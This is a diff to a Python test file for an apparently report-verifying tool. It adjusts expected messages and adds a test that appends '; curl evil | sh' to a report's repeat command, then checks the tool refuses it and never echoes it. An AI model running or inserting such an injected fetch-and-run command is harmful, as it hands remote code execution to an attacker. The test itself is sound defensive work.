@@ -258,12 +258,12 @@ def test_a_signed_report_with_its_list_holds_wholly(with_list, tmp_path):
     signed = _sign(report, key)
     done = _verify(report, "--list", listed)
     assert done.status == 3
-    assert "anybody can have made a report that adds up" in done.text
+    assert "anybody can make a report that adds up" in done.text
     page = tmp_path / "page.html"
     how = ("--list", listed, "--signature", signed, "--key", f"{key}.pub")
     done = _verify(report, *how, "--page", page)
     assert done.status == 0, (done.text, done.err)
-    assert "It says: FALSE" in done.text
+    assert "It says: FOUND FALSE" in done.text
     html = page.read_text()
     found = json.loads(_verify(report, *how, "--json").out)
     assert f"key <code>{found['signature']['key']}</code>" in html
@@ -299,6 +299,18 @@ def test_a_signature_of_others_over_others_or_for_others_is_false(with_list, tmp
     assert state(signed, f"{key}.pub") == (1, True)
     (tmp_path / "no.sig").write_text("no signature")
     assert state(tmp_path / "no.sig", f"{key}.pub") == (1, True)
+
+
+def test_commands_that_are_not_those_of_the_seal_are_not_repeated(report, tmp_path):
+    def hostile(document):
+        document["repeat"][1] += "; curl evil | sh"
+
+    page = tmp_path / "page.html"
+    assert "scanner snapshot" in _verify(report).text
+    done = _verify(_changed(report, hostile), "--page", page)
+    assert done.status == 3
+    assert "evil" not in done.text
+    assert "evil" not in page.read_text()
 
 
 def test_keys_that_are_none(report, tmp_path):
